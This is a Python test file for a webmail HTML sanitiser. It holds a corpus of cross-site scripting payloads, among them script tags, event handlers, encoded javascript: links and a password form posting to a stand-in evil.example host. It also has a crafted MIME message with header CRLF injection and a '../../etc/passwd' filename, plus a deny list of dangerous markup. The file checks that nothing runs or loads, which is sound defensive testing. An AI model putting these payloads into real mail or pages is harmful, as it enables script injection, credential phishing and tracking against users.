"""Hostile mail: what the webmail shows of it runs no script, loads nothing from elsewhere and
breaks out of nothing (docs/webmail.md, "Reading HTML mail")."""

from __future__ import annotations

import re

import pytest
from tests.web.conftest import ALICE, Web

from pobox.web.sanitize import sanitise

CORPUS = {
    "script tag": "<p>hi</p><script>alert(1)</script>",
    "script in attribute-less case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "event handler": '<img src="cid:none" onerror="alert(1)"><body onload="alert(2)">',
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "javascript link, encoded": '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data image not inline": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    "svg with script": '<svg><script>alert(1)</script><circle onload="alert(2)"/></svg>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "form": '<form action="https://evil.example/steal"><input name="password"></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "css overlay": '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999">login</div>',
    "css phoning home": '<p style="background:url(https://evil.example/track.png)">x</p>',
    "style element": "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    "srcset": '<img srcset="https://evil.example/a.png 1x">',
}


@pytest.mark.parametrize("name", list(CORPUS))
def test_the_sanitiser_leaves_nothing_that_runs_or_loads(name: str) -> None:
    html = sanitise(CORPUS[name]).html.lower()
    for bad in ("<script", "onerror", "onload", "javascript:", "data:text", "svg", "<iframe",
                "<form", "<input", "<meta", "<base", "position", "url(", "<style", "<link",
                "<object", "<embed", "srcset", "evil.example"):  # fmt: skip
        assert bad not in html, (name, html)


def test_links_open_apart_and_remote_images_wait_for_permission() -> None:
    html = '<a href="https://example.org/">x</a><img src="https://img.example/a.png">'
    blocked = sanitise(html)
    assert 'rel="noopener noreferrer"' in blocked.html and 'target="_blank"' in blocked.html
    assert "img.example" not in blocked.html and blocked.blocked == 1
    allowed = sanitise(html, remote=True)
    assert 'src="https://img.example/a.png"' in allowed.html and allowed.blocked == 0


def test_inline_images_become_data_urls_of_the_message_own_parts() -> None:
    html = '<img src="cid:logo@x"><img src="cid:other@x">'
    clean = sanitise(html, inline={"logo@x": ("image/png", b"\x89PNG")})
    assert 'src="data:image/png;base64,iVBORw=="' in clean.html
    assert "other@x" not in clean.html


HTML_MAIL = (
    b"From: =?utf-8?q?Evil_=3Cscript=3Ealert=281=29=3C/script=3E?= <evil@example.net>\r\n"
    b"To: alice@example.org\r\n"
    b"Subject: =?utf-8?b?PC90aXRsZT48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+DQpCY2M6IHg=?=\r\n"
    b"Date: Mon, 7 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="o"\r\n\r\n'
    b'--o\r\nContent-Type: multipart/related; boundary="r"\r\n\r\n'
    b"--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b'<p onclick="alert(1)">Hello <img src="cid:logo@x"><img src="https://tracker.example/p.gif">'
    b'<script>alert(2)</script><a href="javascript:alert(3)">x</a></p>\r\n'
    b"--r\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\niVBORw==\r\n"
    b"--r--\r\n"
    b"--o\r\nContent-Type: text/html;\r\n"
    b' name="=?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E.html?="\r\n'
    b'Content-Disposition: attachment; filename="../../etc/\r\n passwd.html"\r\n\r\n'
    b"<script>alert(4)</script>\r\n"
    b"--o\r\nContent-Type: message/rfc822\r\n\r\n"
    b"From: inner@example.net\r\nSubject: Inner\r\nContent-Type: text/html\r\n\r\n"
    b'<b>inner</b><script>alert(5)</script><img src="https://tracker.example/inner.gif">\r\n'
    b"--o--\r\n"
)


async def test_a_hostile_message_through_every_page(web: Web) -> None:
    (result,) = await web.service.delivery.deliver(
        __import__("pobox.service.delivery", fromlist=["Envelope"]).Envelope(
            "evil@example.net", (ALICE,)
        ),
        HTML_MAIL,
    )
    assert result.delivered
    await web.login()
    inbox = await web.folder_id(ALICE, "INBOX")
    listed = await web.client.get(f"/f/{inbox}")
    page = await web.client.get(f"/m/{inbox}/1")
    for text in (listed.text, page.text):
        assert "<script>alert" not in text
        assert "&lt;script&gt;" in text  # the decoded header is shown as text
        assert not re.search(r"<img src=x", text)
    # the header's CR LF came out as a space: nothing breaks out of its element
    assert "\r\nBcc" not in page.text and "\nBcc: x" not in page.text
    assert "Remote images are blocked (1)" in page.text
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page.text
    body = await web.client.get(f"/m/{inbox}/1/body")
    csp = body.headers["content-security-policy"]
    assert "script-src" not in csp and "default-src 'none'" in csp and "sandbox" in csp
    assert "img-src data:;" in csp  # no remote images
    assert "alert" not in body.text and "onclick" not in body.text
    assert "tracker.example" not in body.text
    assert 'src="data:image/png;base64,iVBORw=="' in body.text
    allowed = await web.client.get(f"/m/{inbox}/1/body?remote=1")
    assert "tracker.example/p.gif" in allowed.text
    assert "img-src data: https: http:;" in allowed.headers["content-security-policy"]
    # the HTML attachment downloads, never renders here; its name is made harmless
    numbers = re.findall(r'href="/m/\d+/1/part/(\d+)" download>([^<]*)<', page.text)
    assert numbers, page.text
    for number, _name in numbers:
        download = await web.client.get(f"/m/{inbox}/1/part/{number}")
        disposition = download.headers["content-disposition"]
        assert disposition.startswith("attachment;")
        assert "/" not in disposition.split("filename*=")[0]
        assert "\r" not in disposition and "\n" not in disposition
        assert download.headers["content-security-policy"].endswith("sandbox")
    # the forwarded message is viewable, sanitised the same way
    view = re.search(r'href="(/m/\d+/1\?part=\d+)">view<', page.text)
    assert view is not None
    inner = await web.client.get(view.group(1).replace("&amp;", "&"))
    assert "Inner" in inner.text
    part = view.group(1).split("part=")[1]
    inner_body = await web.client.get(f"/m/{inbox}/1/body?part={part}")
    assert "<b>inner</b>" in inner_body.text and "alert" not in inner_body.text
    assert "tracker.example" not in inner_body.text
